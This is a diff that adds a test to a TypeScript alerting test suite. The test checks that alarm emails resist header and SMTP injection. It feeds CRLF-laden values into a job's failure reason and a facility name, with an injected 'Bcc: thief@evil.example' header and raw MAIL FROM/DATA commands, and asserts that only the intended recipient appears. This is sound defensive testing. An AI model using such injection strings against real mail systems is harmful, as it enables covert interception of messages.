@@ -143,6 +143,33 @@ describe('the state of the installation', { timeout: 60_000 }, () => {
       }),
     ))
 
+  it('writes one letter to those it names, whatever a fault says of itself', () =>
+    withMail(async (mailServerFile, letters) => {
+      const reason =
+        'no\r\nBcc: thief@evil.example\r\n\r\n.\r\nMAIL FROM:<thief@evil.example>\r\nDATA\r\nx\r\n.\r\n'
+      const broken: Watched = {
+        name: 'operations',
+        findings: async () => [finding('job x', 'red', 'jobFails', { job: reason, minutes: 11, reason })],
+      }
+      const settings = { LANONG_ALARM_MAIL_TO: 'it@nganpho.example', LANONG_MAIL_SERVER_FILE: mailServerFile }
+      await withServices(
+        async (services) => {
+          const ctx = contextOf(services)
+          await sql`insert into facility (id, code, name) values (1, '01ZZ1', ${`Ngàn Phố\r\nBcc: thief@evil.example`})
+            on conflict do nothing`.execute(ctx.db)
+          await lookAndTell(ctx, [broken])
+          assert.equal((await listAlarms(ctx))[0]?.notices[0]?.state, 'sent')
+        },
+        { settings },
+      )
+      assert.equal(letters.length, 1)
+      const head = (letters[0] ?? '').split('\n\n')[0] ?? ''
+      assert.deepEqual(head.match(/^(to|cc|bcc|from):.*$/gim), [
+        'From: it@nganpho.example',
+        'To: it@nganpho.example',
+      ])
+    }))
+
   it('gives up after eight tries, and keeps what was not told', () =>
     withHook(async (hook) => {
       hook.status = 500
